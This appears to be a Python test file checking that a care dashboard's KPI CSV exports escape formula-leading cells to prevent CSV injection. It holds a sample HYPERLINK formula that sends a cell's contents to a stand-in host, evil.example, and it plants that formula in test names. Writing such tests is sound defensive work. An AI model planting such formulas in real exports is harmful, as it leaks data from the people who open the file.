"""The dashboard's KPI CSV downloads neutralise formula-leading cells (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlalchemy.orm import Session

from tests.factories import make_adult, make_care_worker, make_planned_visit
from tests.office.conftest import Office

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for the rota")'


def test_a_client_named_as_a_formula_downloads_as_text(as_coordinator: Office,
                                                      session: Session) -> None:
    joan = make_adult(session, ref="A1", given_name=LINK, family_name="@Smith")
    amy = make_care_worker(session, ref="C1", given_name="\tAmy", family_name="+Jones")
    make_planned_visit(session, joan, [amy], start=datetime(2026, 1, 13, 8, 0, tzinfo=UTC),
                       ref="V1")
    session.commit()
    for path in ("/office/kpi/visits.csv", "/office/kpi/summary.csv"):
        response = as_coordinator.get(f"{path}?from=2026-01-13&to=2026-01-13")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True),
                                                        newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], path
    visits = as_coordinator.get("/office/kpi/visits.csv?from=2026-01-13&to=2026-01-13")
    assert any(c.startswith("'" + LINK) for row in csv.reader(io.StringIO(
        visits.get_data(as_text=True), newline="")) for c in row)
